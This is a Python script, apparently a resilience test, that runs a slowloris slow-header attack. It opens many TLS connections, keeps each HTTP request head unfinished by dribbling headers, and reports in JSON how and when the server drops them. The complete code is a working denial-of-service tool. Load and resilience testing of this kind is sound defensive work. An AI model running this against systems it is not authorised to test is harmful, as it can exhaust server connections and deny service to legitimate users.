"""Slow-header clients (slowloris): open N TLS connections, send the start of a request head,
then keep it alive with one more header line every half second, never finishing it. Reports
when and how the server cut each connection, as JSON on the last line.

usage: slow_headers.py HOST IP PORT CA_FILE COUNT SECONDS
Prints "opened N" once every connection is open (the caller then checks normal clients).
"""

import json
import resource
import select
import socket
import ssl
import sys
import time

host, ip, port, ca, count, seconds = sys.argv[1:7]
port, count, seconds = int(port), int(count), float(seconds)
resource.setrlimit(resource.RLIMIT_NOFILE, (count + 256, count + 256))

ctx = ssl.create_default_context(cafile=ca)
conns = {}  # fd -> [socket, opened_at, cut_at, how]
failed_to_open = 0
for _ in range(count):
    try:
        raw = socket.create_connection((ip, port), timeout=10)
        tls = ctx.wrap_socket(raw, server_hostname=host)
        tls.sendall(b"GET /Patient/slowloris HTTP/1.1\r\nHost: " + host.encode() + b"\r\n")
        tls.setblocking(False)
        conns[tls.fileno()] = [tls, time.monotonic(), None, None]
    except OSError:
        failed_to_open += 1
print(f"opened {len(conns)}", flush=True)


def cut(entry, how):
    entry[2], entry[3] = time.monotonic(), how
    try:
        entry[0].close()
    except OSError:
        pass


poller = select.poll()
for fd in conns:
    poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
end = time.monotonic() + seconds
next_dribble = time.monotonic()
while time.monotonic() < end and any(e[2] is None for e in conns.values()):
    now = time.monotonic()
    if now >= next_dribble:
        next_dribble = now + 0.5
        for entry in conns.values():
            if entry[2] is None:
                try:
                    entry[0].send(b"X-Slow: 1\r\n")
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    cut(entry, "reset")
    for fd, _ in poller.poll(100):
        entry = conns[fd]
        if entry[2] is not None:
            continue
        poller.unregister(fd)
        try:
            data = entry[0].recv(4096)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            poller.register(fd, select.POLLIN | select.POLLHUP | select.POLLERR)
            continue
        except OSError:
            cut(entry, "reset")
            continue
        if not data:
            cut(entry, "closed")
        else:
            status = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/1.1 ") else "other"
            cut(entry, status)

hows = {}
for entry in conns.values():
    hows[entry[3] or "still open"] = hows.get(entry[3] or "still open", 0) + 1
cut_after = [e[2] - e[1] for e in conns.values() if e[2] is not None]
print(json.dumps({
    "opened": len(conns),
    "failed_to_open": failed_to_open,
    "how": hows,
    "min_cut_after": min(cut_after, default=None),
    "max_cut_after": max(cut_after, default=None),
}), flush=True)
